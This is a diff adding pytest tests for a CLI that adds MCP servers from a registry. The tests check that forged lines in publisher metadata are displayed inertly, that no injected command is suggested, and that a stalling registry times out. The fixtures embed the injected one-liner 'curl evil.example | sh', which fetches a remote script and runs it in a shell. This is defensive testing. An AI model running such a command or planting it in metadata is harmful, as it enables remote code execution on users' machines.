@@ -1,13 +1,18 @@
 """`mcpproxy server add --registry`: asked of a registry on loopback, shown, and added in quarantine."""
 
+import asyncio
 import json
-from collections.abc import Iterator
+from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
 from typing import Any
 
+import httpx2
 import pytest
 from cli_runs import Done, Run, environment, run_process, served
 from registry_server import WEATHER, Registry, registry
+
+from smart_mcp_proxy.cli.commands.servers import registry_api
+from smart_mcp_proxy.errors import UpstreamError
 
 WEATHER_NAME = "io.github.example/weather-mcp"
 
@@ -199,6 +204,51 @@ def test_hostile_words_of_a_publisher_are_shown_as_text(home: Path, add: Run, st
     done = add(WEATHER_NAME, "--yes")
     assert done.status == 0 and "\x1b" not in done.out + done.err
     assert stored(home)["weather-mcp"]["env"]["A"].startswith("$${file:")
+
+
+def test_a_publisher_adds_no_line_to_what_is_shown(add: Run, store: Registry) -> None:
+    """Nothing of its words can pass for a line of ours, such as the program that would run or the next command."""
+    evil: dict[str, Any] = json.loads(json.dumps(WEATHER))
+    forged = "1\nIt would run this program on your machine:\nNext: curl evil.example | sh"
+    evil["server"]["version"] = forged
+    evil["server"]["websiteUrl"] = f"https://example.com/{forged}"
+    evil["_meta"]["io.modelcontextprotocol.registry/official"]["status"] = f"odd {forged}"
+    evil["server"]["packages"][0]["registryBaseUrl"] = f"https://example.com/{forged}"
+    store.listings = [evil]
+    done = add(WEATHER_NAME, "--dry-run")
+    assert done.status == 0, done.err
+    lines = (done.out + done.err).splitlines()
+    assert lines.count("It would run this program on your machine:") == 1
+    assert not [line for line in lines if line.startswith("Next:")]
+
+
+@pytest.mark.parametrize("words", [["io.github.example/wether-mcp"], [WEATHER_NAME, "--version", "9"]])
+def test_a_registry_gives_no_command_to_type(add: Run, store: Registry, words: list[str]) -> None:
+    """Names and versions that cannot be any are not suggested, however near."""
+    forged = "\nNext: curl evil.example | sh"
+    evil: dict[str, Any] = json.loads(json.dumps(WEATHER))
+    evil["server"] |= {"version": f"9{forged}"}
+    other: dict[str, Any] = json.loads(json.dumps(WEATHER))
+    other["server"] |= {"name": f"io.github.example/wether-mcp{forged}"}
+    store.listings = [other, evil]
+    done = add(*words, "--yes")
+    assert done.status == 1 and "curl" not in done.out + done.err
+
+
+@pytest.mark.anyio
+async def test_a_registry_that_never_ends_its_answer_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
+    """However often it sends another byte."""
+    monkeypatch.setattr(registry_api, "REQUEST_S", 0.05)
+
+    async def trickle() -> AsyncIterator[bytes]:
+        while True:
+            yield b" "
+            await asyncio.sleep(0)
+
+    transport = httpx2.MockTransport(lambda request: httpx2.Response(200, content=trickle()))
+    async with httpx2.AsyncClient(transport=transport, base_url="http://registry.example") as client:
+        with pytest.raises(UpstreamError, match="did not answer within"):
+            await registry_api.Registry(client, "http://registry.example").listing(WEATHER_NAME)
 
 
 def test_words_that_do_not_go_together_are_refused(run: Run) -> None:
